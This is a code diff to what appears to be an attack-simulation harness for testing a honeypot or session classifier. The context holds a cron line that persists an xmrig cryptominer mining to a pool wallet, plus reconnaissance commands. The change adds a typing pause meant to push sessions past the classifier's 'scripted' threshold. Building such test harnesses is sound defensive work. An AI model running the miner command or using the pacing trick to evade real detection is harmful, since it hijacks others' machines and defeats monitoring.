@@ -43,6 +43,11 @@ const MINER_SHA256 = createHash('sha256').update(MINER).digest('hex')
 const WALLET =
   '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A'
 const CRON_JOB = `*/5 * * * * /tmp/xmrig -o pool.supportxmr.com:3333 -u ${WALLET} >/dev/null 2>&1`
+/**
+ * Pause before each typed line: a person reads the output first. Long enough that the session spans
+ * more than the classification's "scripted" window (5 commands within 5 s).
+ */
+const TYPING_PAUSE_MS = 1_200
 const HUMAN_COMMANDS = [
   'uname -a',
   'cat /proc/cpuinfo',
@@ -190,7 +195,7 @@ function interactiveSession(from: AttackerNamespace, password: string, commands:
       setTimeout(() => {
         typedAt = screen.length
         child.stdin.write(next)
-      }, 400)
+      }, TYPING_PAUSE_MS)
     })
     child.stderr.on('data', (chunk: Buffer) => {
       screen += chunk.toString('utf8')
